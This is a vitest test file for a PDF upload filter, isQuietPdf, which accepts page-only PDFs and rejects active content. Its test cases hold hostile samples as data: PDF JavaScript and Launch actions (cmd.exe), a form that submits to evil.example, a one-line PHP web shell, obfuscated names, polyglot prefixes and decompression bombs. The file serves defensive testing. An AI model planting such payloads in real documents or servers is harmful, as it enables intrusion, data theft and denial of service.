import { deflateSync } from "node:zlib";
import { describe, expect, it } from "vitest";
import { pdf, photo } from "../../tests/support/pictures";
import { sampleLicence } from "../setup/demo/licence";
import { isQuietPdf } from "./pdf";

const latin1 = (text: string) => Buffer.from(text, "latin1");
const script = "<< /S /JavaScript /JS (app.alert(1)) >>";
/** An object stream as a PDF writer packs it: numbers and offsets first. */
const packed = (object: string, entries = "", content = `9 0 ${object}`) =>
  stream(`/Type /ObjStm /N 1 /First 4 ${entries}`, content);

describe("D1: a PDF that only shows pages is taken", () => {
  it("such as the sample licence, one of packed objects, one with an outline before a photograph", async () => {
    expect(await isQuietPdf(sampleLicence(["营业执照", "明试"]))).toBe(true);
    expect(await isQuietPdf(pdf(packed("<< /Type /Page /Title (Javascript, JS) >>")))).toBe(true);
    const jpeg = stream("/Subtype /Image /Filter /DCTDecode", await photo(), false);
    expect(await isQuietPdf(pdf("<< /Type /Outlines /First 9 0 R /Last 9 0 R >>", jpeg))).toBe(true);
  });

  it("whatever bytes its pictures consist of", async () => {
    const noise = stream("/Subtype /Image /Width 9 /Filter /JPXDecode", latin1("x/JS y/XFA z"), false);
    expect(await isQuietPdf(pdf(noise))).toBe(true);
  });
});

describe("D1: a PDF that does more is refused", () => {
  it.each([
    ["a script", script],
    ["a script as it opens", `<< /Type /Catalog /OpenAction ${script} >>`],
    ["a script whose name is spelled with codes", "<< /S /J#61va#53cript /J#53 (app.alert(1)) >>"],
    ["a program to start", "<< /S /Launch /F (cmd.exe) >>"],
    ["a file within", "<< /Type /Filespec /EF << /F 5 0 R >> >> << /Names << /EmbeddedFiles 7 0 R >> >>"],
    ["a film with a player", "<< /Type /Annot /Subtype /RichMedia >>"],
    ["a script of a film", "<< /S /Rendition /JS (app.alert(1)) >>"],
    ["a form that sends itself", "<< /S /SubmitForm /F (https://evil.example/) >>"],
    ["a form with a program of its own", "<< /AcroForm << /XFA 5 0 R >> >>"],
    ["a lock", "<< /Encrypt 5 0 R >>"],
    ["a page of the web", "<html><body onload=alert(1)>"],
    ["a program for servers", "<?php system($_GET['c']); ?>"],
    ["an archive", "PK\u0005\u0006\0\0\0\0"],
    ["a script among packed objects", packed(script)],
    ["one spelled with codes among packed objects", packed("<< /S /#4aavaScript >>")],
    ["a short name among packed objects", packed("<< /JS 5 0 R >>")],
    [
      "objects in another packing",
      `<< /Type /ObjStm /N 1 /First 4 /Filter /ASCIIHexDecode >>\nstream\n39\nendstream`,
    ],
    ["objects packed twice", packed(script, "/Filter [/FlateDecode /ASCIIHexDecode]", "3C3C")],
    [
      "objects in a packing that is told elsewhere",
      packed("<< >>").replace("/Filter /FlateDecode", "/Filter 7 0 R"),
    ],
    ["objects behind a predictor", packed("<< >>", "/DecodeParms << /Predictor 12 >>")],
    ["objects that are not called so", packed(script).replace("/Type /ObjStm", "")],
    ["objects whose packing is broken", packed(script).replace("stream\n", "stream\nx")],
    ["objects within what looks like a stream", `% stream\n${packed(script)}`],
  ])("%s", async (_, object) => {
    expect(await isQuietPdf(pdf(object))).toBe(false);
  });

  it("a hidden script whose stream pretends to be over before it begins", async () => {
    expect(await isQuietPdf(pdf(packed(script, "/X (endstream)")))).toBe(false);
    expect(await isQuietPdf(pdf(packed(script, "/X (stream\n)")))).toBe(false);
    expect(await isQuietPdf(pdf(packed(script).replace("stream\n", "stream % remark\n")))).toBe(false);
  });

  it("anything before its head or behind its end, or half of it", async () => {
    const whole = Buffer.from(pdf());
    expect(await isQuietPdf(whole)).toBe(true);
    expect(await isQuietPdf(Buffer.concat([whole, latin1("\r\n \n")]))).toBe(true);
    for (const sent of [
      Buffer.concat([latin1("\n"), whole]),
      Buffer.concat([latin1("GIF89a"), whole]),
      Buffer.concat([whole, latin1("<b>")]),
      Buffer.concat([whole, latin1("PK\u0003\u0004")]),
      whole.subarray(0, whole.length / 2),
      latin1("%PDF-1."),
      new Uint8Array(),
    ])
      expect(await isQuietPdf(sent)).toBe(false);
  });
});

describe("D3: no bombs", () => {
  it.each([
    [
      "objects that unpack to 300 MB",
      () => {
        const bomb = deflateSync(Buffer.alloc(300_000_000, 32));
        return pdf(
          `<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode >>\nstream\n${bomb.toString("latin1")}\nendstream`,
        );
      },
    ],
    [
      "a hundred that unpack to much each",
      () => pdf(...Array<string>(100).fill(packed(" ".repeat(20_000_000)))),
    ],
    ["ten megabytes of codes", () => pdf(`${"#61".repeat(3_300_000)} ${script}`)],
    ["ten megabytes of beginnings", () => pdf("stream ".repeat(1_400_000))],
    [
      "five thousand streams without an end",
      () => pdf(`${"/First stream\n".repeat(4_900)}${" ".repeat(9_000_000)}`),
    ],
    ["a filter that never comes", () => pdf(`/First /Filter${" ".repeat(9_000_000)}stream\n`)],
  ])("%s", async (_, make) => {
    const sent = make();
    expect(await isQuietPdf(sent)).toBe(false);
  });
});

/** A PDF stream. */
function stream(entries: string, content: string | Uint8Array, isPacked = true): string {
  const bytes = typeof content === "string" ? Buffer.from(content, "latin1") : content;
  const inside = Buffer.from(isPacked ? deflateSync(bytes) : bytes);
  const filter = isPacked ? "/Filter /FlateDecode" : "";
  return `<< ${entries} ${filter} /Length ${inside.length} >>\nstream\n${inside.toString("latin1")}\nendstream`;
}
